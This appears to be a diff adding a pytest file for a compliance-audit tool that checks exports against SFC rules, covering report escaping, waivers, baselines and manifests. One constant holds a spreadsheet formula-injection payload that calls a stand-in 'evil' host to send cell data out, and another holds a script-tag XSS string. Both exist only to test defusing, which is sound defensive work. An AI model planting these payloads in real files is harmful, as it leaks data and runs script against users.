@@ -1,0 +1,221 @@
+"""Report formats, escaping, atomic writes, waivers, baselines, as-of replay and the evidence manifest."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+
+from sfc_check import output as output_module
+from sfc_check.report.csv_report import safe_cell
+
+from conftest import SAMPLES, pairs, write
+
+AS_OF = ("--as-of", "2026-06-30")
+HOSTILE = '=HYPERLINK("http://evil/?x="&A1,"click")'
+MARKUP = "<script>alert(1)</script> & <b>Chan</b>"
+
+
+def hostile_exports(tmp_path: Path) -> Path:
+    """A retail client with a formula for a trade id and markup for a client id."""
+    write(tmp_path / "clients.csv", "client_id,name,client_type,investor_class,has_securities_margin_account\n"
+          f'"{MARKUP}",x,individual,retail,Y\n')
+    write(tmp_path / "perp_trades.csv", "trade_id,client_id,instrument,trade_time,side,quantity,price,leverage\n"
+          f'"{HOSTILE.replace(chr(34), chr(34) * 2)}","{MARKUP}",BTC-USD-PERP,2026-06-01T10:00:00+08:00,buy,1,1,1\n'
+          f'"-2+3","{MARKUP}",BTC-USD-PERP,2026-06-01T10:00:00+08:00,buy,1,1,1\n')
+    return tmp_path
+
+
+@pytest.mark.parametrize("value,expected", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+                                            ("\tx", "'\tx"), ("\rx", "'\rx"), ("ok", "ok"), (None, ""), (5, "5")])
+def test_safe_cell_defuses_formulas(value, expected) -> None:
+    assert safe_cell(value) == expected
+
+
+def test_csv_report_escapes_formula_injection(cli, tmp_path) -> None:
+    out = tmp_path / "out.csv"
+    cli("audit", hostile_exports(tmp_path / "data"), *AS_OF, "--only", "PERP-ACCESS-001", "--output", out)
+    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8"))))
+    assert {r["key"] for r in rows} == {"'" + HOSTILE, "'-2+3"}  # the values, defused, nothing lost
+    assert {r["key_fields"] for r in rows} == {"trade_id"}
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_html_and_markdown_escape_hostile_values(cli, tmp_path) -> None:
+    html_path, md_path = tmp_path / "r.html", tmp_path / "r.md"
+    cli("audit", hostile_exports(tmp_path / "data"), *AS_OF, "--output", html_path, "--output", md_path)
+    page = html_path.read_text("utf-8")
+    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "http://" not in page.split("</style>")[0]  # no external CSS
+    assert "<link" not in page and "src=" not in page  # self-contained: no external CSS, JS or images
+    text = md_path.read_text("utf-8")
+    assert "<script>" not in text and "\\<script\\>" in text
+
+
+def test_html_report_has_summary_sections_and_manifest(cli, tmp_path) -> None:
+    out = tmp_path / "r.html"
+    cli("audit", SAMPLES / "exports", *AS_OF, "--output", out)
+    page = out.read_text("utf-8")
+    for needle in ("Summary by severity", "Summary by rule", 'id="FIN-COLL-002"', "para 7(b)",
+                   "The SFC requires a haircut of at least 60", "P015", "Evidence manifest", "rule pack sha256",
+                   "@media print"):
+        assert needle in page
+
+
+def test_junit_parses_with_one_testcase_per_rule(cli, tmp_path) -> None:
+    (tmp_path / "data").mkdir()
+    for name in ("collateral.csv", "clients.csv", "va_financing_loans.csv"):
+        (tmp_path / "data" / name).write_bytes((SAMPLES / "exports" / name).read_bytes())
+    out = tmp_path / "r.xml"
+    cli("audit", tmp_path / "data", *AS_OF, "--output", out)
+    suite = ET.parse(out).getroot()
+    cases = suite.findall("testcase")
+    assert len(cases) == 30 == int(suite.get("tests"))
+    skipped = [c for c in cases if c.find("skipped") is not None]
+    failed = {c.get("name").split()[0] for c in cases if c.find("failure") is not None}
+    assert len(skipped) == 19 == int(suite.get("skipped"))
+    assert failed == {"FIN-ELIG-001", "FIN-CREDIT-001", "FIN-CREDIT-002", "FIN-DISC-001", "FIN-COLL-001",
+                      "FIN-COLL-002", "FIN-COLL-003", "FIN-COLL-004", "FIN-COVER-001", "FIN-MC-001", "FIN-VAL-001"}
+
+
+def test_several_outputs_and_format_from_extension(cli, tmp_path) -> None:
+    outs = [tmp_path / n for n in ("a.json", "b.csv", "c.md", "d.html", "e.xml")]
+    result = cli("audit", SAMPLES / "clean", *AS_OF, *[x for o in outs for x in ("--output", o)], "--quiet")
+    assert result.code == 0 and all(o.stat().st_size > 0 for o in outs)
+    assert json.loads(outs[0].read_text("utf-8"))["summary"]["violations"] == 0
+    assert cli("audit", SAMPLES / "clean", "--output", tmp_path / "x.txt").code == 2
+    assert cli("audit", SAMPLES / "clean", *AS_OF, "--format", "csv", "--output", tmp_path / "x.txt").code == 0
+    assert (tmp_path / "x.txt").read_text("utf-8").startswith("rule_id,severity")
+
+
+def test_a_failed_write_leaves_the_previous_report_intact(cli, tmp_path, monkeypatch) -> None:
+    out = tmp_path / "report.json"
+    out.write_text('{"previous": true}', "utf-8")
+
+    def crash(src, dst):
+        raise OSError(28, "No space left on device")
+    monkeypatch.setattr(output_module.os, "replace", crash)
+    result = cli("audit", SAMPLES / "exports", *AS_OF, "--output", out)
+    assert result.code == 2 and "No space left" in result.err
+    assert out.read_text("utf-8") == '{"previous": true}'
+    assert [p.name for p in tmp_path.iterdir()] == ["report.json"]  # no temp file left behind
+
+
+def waiver_file(tmp_path: Path, *entries: str) -> Path:
+    return write(tmp_path / "waivers.yaml", "waivers:\n" + "".join(entries))
+
+
+def waiver(rule: str, key: str, expires: str, approved: str = "2026-06-01") -> str:
+    return (f"  - rule_id: {rule}\n    key: {key}\n    reason: client onboarding exception agreed with the SFC\n"
+            f"    approved_by: Head of Compliance\n    approved_on: \"{approved}\"\n    expires_on: \"{expires}\"\n")
+
+
+def test_waivers_apply_expire_and_go_stale(cli, tmp_path) -> None:
+    path = waiver_file(tmp_path,
+                       waiver("PERP-ACCESS-001", "{trade_id: T002}", "2026-12-31"),    # applies
+                       waiver("FIN-COLL-002", "{position_id: P015}", "2026-06-29"),     # expired the day before
+                       waiver("FIN-COLL-001", "{position_id: P999}", "2026-12-31"))     # matches nothing
+    report = cli("audit", SAMPLES / "exports", *AS_OF, "--waivers", path, "--format", "json").json()
+    waived = [v for v in report["violations"] if v["waived"]]
+    assert [(v["rule_id"], v["key"]) for v in waived] == [("PERP-ACCESS-001", {"trade_id": "T002"})]
+    assert waived[0]["waiver"]["approved_by"] == "Head of Compliance"
+    assert pairs(report) >= {("PERP-ACCESS-001", "T002"), ("FIN-COLL-002", "P015")}  # never hidden from JSON
+    assert [w["rule_id"] for w in report["waivers"]["expired"]] == ["FIN-COLL-002"]
+    assert [w["rule_id"] for w in report["waivers"]["stale"]] == ["FIN-COLL-001"]
+    assert report["summary"]["waived"] == 1
+    assert report["summary"]["by_severity"]["critical"] == 17  # 18 critical less the waived one
+    rule = next(r for r in report["rules"] if r["id"] == "PERP-ACCESS-001")
+    assert rule["waived"] == 1 and rule["violations"] == 2
+
+
+def test_waiving_every_failing_violation_makes_the_exit_code_0(cli, tmp_path) -> None:
+    path = waiver_file(tmp_path, waiver("FIN-COLL-002", "{position_id: P015}", "2026-07-31"))
+    args = ("audit", SAMPLES / "exports", *AS_OF, "--only", "FIN-COLL-002", "--quiet")
+    assert cli(*args).code == 1
+    assert cli(*args, "--waivers", path).code == 0
+
+
+def test_bad_waiver_file_is_exit_2_with_line(cli, tmp_path) -> None:
+    path = write(tmp_path / "w.yaml", "waivers:\n  - rule_id: FIN-COLL-002\n    key: {position_id: P1}\n    reason: r\n")
+    result = cli("audit", SAMPLES / "clean", "--waivers", path)
+    assert result.code == 2 and "w.yaml:2" in result.err
+
+
+def test_baseline_marks_new_persisting_and_resolved(cli, tmp_path) -> None:
+    data = tmp_path / "data"
+    data.mkdir()
+    for f in (SAMPLES / "exports").iterdir():
+        (data / f.name).write_bytes(f.read_bytes())
+    first = tmp_path / "monday.json"
+    assert cli("audit", data, *AS_OF, "--output", first, "--quiet").code == 1
+    # Tuesday: P015 fixed, a new ineligible position appears
+    text = (data / "collateral.csv").read_text("utf-8").replace("P015,C012,ETH,virtual_asset,4,100000,59.99",
+                                                               "P015,C012,ETH,virtual_asset,4,100000,60")
+    (data / "collateral.csv").write_text(text + "P022,C015,XRP,virtual_asset,100,1000,70,2026-06-30,N\n", "utf-8")
+    report = cli("audit", data, *AS_OF, "--baseline", first, "--format", "json").json()
+    new = {(v["rule_id"], list(v["key"].values())[0]) for v in report["violations"] if v["baseline"] == "new"}
+    assert new == {("FIN-COLL-001", "P022")}
+    assert all(v["baseline"] == "persisting" for v in report["violations"] if (v["rule_id"], list(v["key"].values())[0]) not in new)
+    assert [(r["rule_id"], r["key"]) for r in report["baseline"]["resolved"]] == [("FIN-COLL-002", {"position_id": "P015"})]
+    assert report["summary"]["new"] == 1 and report["summary"]["resolved"] == 1
+    # --fail-on-new: only the new medium... the new one is critical, so still 1; with it waived, 0
+    assert cli("audit", data, *AS_OF, "--baseline", first, "--fail-on-new", "--quiet").code == 1
+    path = waiver_file(tmp_path, waiver("FIN-COLL-001", "{position_id: P022}", "2026-12-31"))
+    assert cli("audit", data, *AS_OF, "--baseline", first, "--fail-on-new", "--waivers", path, "--quiet").code == 0
+    assert cli("audit", data, *AS_OF, "--baseline", tmp_path / "nope.json").code == 2
+
+
+def test_skipped_rules_do_not_resolve_baseline_violations(cli, tmp_path) -> None:
+    first = tmp_path / "first.json"
+    cli("audit", SAMPLES / "exports", *AS_OF, "--output", first, "--quiet")
+    report = cli("audit", SAMPLES / "exports", *AS_OF, "--only", "FIN-COLL-002", "--baseline", first,
+                 "--format", "json").json()
+    assert report["baseline"]["resolved"] == []
+
+
+def test_as_of_selects_rules_in_force_and_dated_parameter_values(cli, tmp_path) -> None:
+    rules = tmp_path / "rules"
+    src = (Path(__file__).parent.parent / "rules" / "va-financing" / "FIN-COLL-002.yaml").read_text("utf-8")
+    dated = src.replace("    value: 60\n", "    values:\n      - {from: \"2026-02-11\", value: 60}\n"
+                                             "      - {from: \"2026-07-01\", value: 65, note: revised on notice}\n")
+    write(rules / "FIN-COLL-002.yaml", dated)
+    write(rules / "FIN-COLL-001.yaml", (Path(__file__).parent.parent / "rules" / "va-financing" / "FIN-COLL-001.yaml")
+          .read_text("utf-8").replace('effective_from: "2026-02-11"', 'effective_from: "2026-02-11"\neffective_to: "2026-06-29"'))
+    june = cli("audit", SAMPLES / "exports", "--rules", rules, "--as-of", "2026-06-30", "--format", "json").json()
+    july = cli("audit", SAMPLES / "exports", "--rules", rules, "--as-of", "2026-07-01", "--format", "json").json()
+    assert {k for r, k in pairs(june) if r == "FIN-COLL-002"} == {"P015"}
+    assert {k for r, k in pairs(july) if r == "FIN-COLL-002"} == {"P001", "P006", "P009", "P011", "P015", "P019"}
+    june_rule = {r["id"]: r for r in june["rules"]}
+    assert june_rule["FIN-COLL-001"]["status"] == "not_in_force" and "2026-06-29" in june_rule["FIN-COLL-001"]["reason"]
+    assert june_rule["FIN-COLL-002"]["parameters"][0]["value"] == "60"
+    assert {r["id"]: r for r in july["rules"]}["FIN-COLL-002"]["parameters"][0]["value"] == "65"
+    assert june["summary"]["rules_not_in_force"] == 1
+
+
+def test_manifest_and_identical_runs(cli, tmp_path) -> None:
+    a = cli("audit", SAMPLES / "exports", *AS_OF, "--format", "json").json()
+    b = cli("audit", SAMPLES / "exports", *AS_OF, "--format", "json").json()
+    assert json.dumps(a["violations"]) == json.dumps(b["violations"])
+    m = a["manifest"]
+    assert m["rule_pack_sha256"] == b["manifest"]["rule_pack_sha256"] and len(m["rule_files"]) == 30
+    assert m["rule_files"][0]["path"] == "affiliated-market-makers/AMM-ACCESS-001.yaml"
+    assert {i["path"] for i in m["inputs"]} == {f.name for f in (SAMPLES / "exports").iterdir()}
+    assert m["parameters"]["FIN-COLL-002"] == {"min_va_haircut_pct": "60"}
+    assert m["as_of"] == "2026-06-30" and m["timezone"] == "Asia/Hong_Kong" and m["started_at"] <= m["finished_at"]
+    import hashlib
+    clients = next(i for i in m["inputs"] if i["dataset"] == "clients")
+    assert clients["sha256"] == hashlib.sha256((SAMPLES / "exports" / "clients.csv").read_bytes()).hexdigest()
+
+
+def test_new_report_files_get_normal_permissions(cli, tmp_path) -> None:
+    out = tmp_path / "r.json"
+    cli("audit", SAMPLES / "clean", *AS_OF, "--output", out, "--quiet")
+    umask = os.umask(0)
+    os.umask(umask)
+    assert out.stat().st_mode & 0o777 == 0o666 & ~umask
